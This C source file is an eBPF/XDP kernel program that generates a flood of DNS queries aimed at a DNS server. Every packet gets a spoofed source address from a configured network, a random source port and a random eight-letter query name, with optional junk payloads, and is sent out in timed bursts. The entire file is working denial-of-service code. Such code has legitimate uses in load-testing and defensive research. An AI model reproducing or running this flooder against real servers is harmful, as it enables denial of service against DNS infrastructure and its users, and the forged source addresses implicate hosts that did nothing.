// SPDX-License-Identifier: GPL-2.0-or-later
/* dns_flood.bpf.c - makes a flood for a DNS server inside the kernel: dns_flood.c runs it over live
 * frames, and each leaves by an interface with another source, port and content. */
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/in.h>
#include <linux/ip.h>
#include <linux/udp.h>
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_endian.h>

#define QUERY 34 /* bytes: a header, a label of eight, "invalid", type and class */
#define BURST 16

/* Set by dns_flood.c. */
__u32 ifindex; /* where frames leave */
__u32 network; /* of the sources, host order: hosts 128 to 255 of it send, which no test has */
__u32 junk;    /* bytes that mean nothing instead of queries */
__u64 step;    /* ns from burst to burst */

__u64 next_ns; /* CLOCK_MONOTONIC, of the next burst; 0: now */
__u64 sent;

struct frame {
	struct ethhdr eth;
	struct iphdr ip;
	struct udphdr udp;
	__u8 dns[QUERY];
} __attribute__((packed));

static long is_time(__u32 i, void *unused)
{
	return bpf_ktime_get_ns() >= next_ns;
}

static __always_inline void checksum(struct iphdr *ip)
{
	__u32 sum = 0;

	ip->check = 0;
	for (int i = 0; i < 10; i++)
		sum += ((__u16 *)ip)[i];
	sum = (sum & 0xffff) + (sum >> 16);
	ip->check = (__u16) ~((sum & 0xffff) + (sum >> 16));
}

SEC("xdp")
int flood(struct xdp_md *ctx)
{
	struct frame *f = (void *)(long)ctx->data;
	__u32 random = bpf_get_prandom_u32();

	if ((void *)(f + 1) > (void *)(long)ctx->data_end)
		return XDP_ABORTED;
	if (!(sent % BURST)) {
		if (!next_ns)
			next_ns = bpf_ktime_get_ns();
		bpf_loop(1 << 16, is_time, NULL, 0);
		next_ns += step;
	}
	f->ip.saddr = bpf_htonl(network | 0x80 | (random & 0x7f));
	checksum((void *)f + sizeof(f->eth));
	f->udp.source = (__be16)(random >> 16) | bpf_htons(1024);
	for (int i = 0; i < 8; i++, random = random * 1664525 + 1013904223)
		f->dns[13 + i] = 'a' + (random >> 24) % 26;
	f->dns[0] = random >> 24;
	if (junk)
		for (int i = 1; i < 13; i++, random = random * 1664525 + 1013904223)
			f->dns[i] = random >> 24;
	sent++;
	return (int)bpf_redirect(ifindex, 0);
}

char LICENSE[] SEC("license") = "GPL";
